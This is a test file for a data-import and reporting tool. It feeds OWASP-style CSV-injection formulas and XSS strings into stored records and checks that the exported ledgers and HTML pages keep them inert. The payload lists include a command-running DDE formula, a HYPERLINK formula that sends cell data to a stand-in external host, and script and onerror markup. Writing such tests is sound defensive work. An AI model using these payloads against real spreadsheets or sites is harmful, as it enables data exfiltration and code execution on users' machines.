import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { JSDOM } from 'jsdom';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { TextColumn } from '../../src/record/column.js';
import { textAt } from '../../src/record/column.js';
import { ownRows } from '../../src/store/read-delimited.js';
import { readStore } from '../../src/store/read-store.js';
import { type Ran, rampbook } from '../command/run.js';
import { cellsOf, isRun } from './spreadsheet-cells.js';

const folder = mkdtempSync(join(tmpdir(), 'payloads-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));
const at = (name: string) => join(folder, name);

// What spreadsheets run: OWASP, "CSV Injection". What pages run: OWASP, "XSS Filter Evasion", the plainest of each kind.
const formulas = [
  '=1+1',
  '=HYPERLINK("http://elsewhere.example/?"&A1)',
  "=cmd|' /C calc'!A0",
  '+1+cmd',
  '-2+3+cmd',
  '@SUM(A1)',
  '＝1+1',
];
const markup = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '</table><h1>',
  '{{1}}',
];
const honest = ['+1 555 0100', '-5', '=', "'tis late", 'a = b', '5 < 6', '\u001b[31mred'];
const texts = [...formulas, ...markup, ...honest];
const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;

const crosswalk = `
crosswalk: payloads
files:
  - files: stations.csv
    table: stations
    columns: { id: { field: station }, label: { field: name } }
    constants: { setting: launch, time_zone: America/Denver }
  - files: forms.csv
    table: inspections
    time_zone: America/Denver
    columns:
      id: { field: inspection }
      site: { field: station }
      start: { field: started_at, pattern: yyyy-MM-dd HH:mm }
      home: { field: home_region }
      result: { field: outcome, codes: { C: cleared } }
    constants: { direction: arriving, extent: full, watercraft_type: open motorboat }
`;

const notebook = `# Payloads

Sheet by_home: each home_region of inspections.

| column    | formula | shown as |
|-----------|---------|----------|
| inspected | count() | whole    |

Sheet by_station: each station of inspections.

| column    | formula | shown as |
|-----------|---------|----------|
| inspected | count() | whole    |

![By home](dots?sheet=by_home&value=inspected)
`;

let ran: readonly Ran[];
beforeAll(() => {
  mkdirSync(at('exports'));
  writeFileSync(at('c.yaml'), crosswalk);
  writeFileSync(at('p.md'), notebook);
  const stations = texts.map((text, index) => `S${index},${quoted(text)}`);
  const forms = texts.map((text, index) => `${index},S${index},2025-06-01 08:00,${quoted(text)},C`);
  // The same texts once more where no code is so called, and every row is set aside with the text shown.
  const wrong = texts.map((text, index) => `w${index},S${index},2025-06-01 08:00,home,${quoted(text)}`);
  writeFileSync(at('exports/stations.csv'), ['id,label', ...stations, ''].join('\n'));
  writeFileSync(at('exports/forms.csv'), ['id,site,start,home,result', ...forms, ...wrong, ''].join('\n'));
  ran = [
    rampbook(['import', at('c.yaml'), '--from', at('exports'), '--store', at('store')]),
    rampbook(['report', at('p.md'), '--store', at('store'), '--to', at('pages')]),
    rampbook(['evaluate', at('p.md'), '--store', at('store')]),
  ];
});

test('every text is read and kept as it stands, honest or not', async () => {
  expect(ran.map(({ exitCode }) => exitCode)).toEqual([0, 0, 0]);
  const reading = await readStore(at('store'));
  if ('problems' in reading) throw new Error('no store');
  const { columns, rowCount } = reading.records.inspections;
  const home = columns.get('home_region') as TextColumn;
  expect(Array.from({ length: rowCount }, (_, row) => textAt(home, row))).toEqual(texts);
});

test('the ledgers hold no cell that a spreadsheet runs, and give every text back when they are read', async () => {
  for (const name of ['set-aside.csv', 'set-aside-rows.csv', 'notes.csv', 'unmatched.csv', 'double-entries.csv']) {
    expect(cellsOf(readFileSync(at(`store/${name}`), 'utf8')).filter(isRun), name).toEqual([]);
  }
  // The check sees a formula where one is.
  expect(cellsOf(texts.map(quoted).join(',')).filter(isRun)).toHaveLength(formulas.length + 2);
  const setAside = await ownRows(at('store/set-aside.csv'));
  expect(setAside.map(([_file, _line, _column, seen]) => seen)).toEqual(texts);
});

test('a page shows them as text, and what it offers to download is inert', () => {
  const { document } = new JSDOM(readFileSync(at('pages/p.html'), 'utf8')).window;
  const scripts = [...document.querySelectorAll('script')].map((script) => script.textContent ?? '');
  expect(scripts.filter((script) => script.trim() === 'alert(1)')).toEqual([]);
  expect(document.querySelectorAll('img').length).toBe(0);
  const handlers = [...document.querySelectorAll('*')].flatMap((element) => [...element.attributes]);
  expect(handlers.filter(({ name }) => name.startsWith('on'))).toEqual([]);
  const shown = [...document.querySelectorAll('table th, table td')].map((cell) => cell.textContent ?? '');
  for (const text of markup) expect(shown.filter((cell) => cell.includes(text)).length, text).toBeGreaterThan(0);
  const downloads = [...document.querySelectorAll('a[download]')]
    .map((link) => link.getAttribute('href')!)
    .filter((address) => address.startsWith('data:text/csv'))
    .map((address) => decodeURIComponent(address.slice(address.indexOf(',') + 1)));
  expect(downloads.length).toBeGreaterThan(1);
  for (const text of downloads) expect(cellsOf(text).filter(isRun)).toEqual([]);
  expect(downloads.join('')).toContain("'=1+1");
});

test('a terminal is told nothing that it would obey', () => {
  expect(ran.filter(({ out, err }) => `${out}${err}`.includes('\u001b'))).toEqual([]);
});
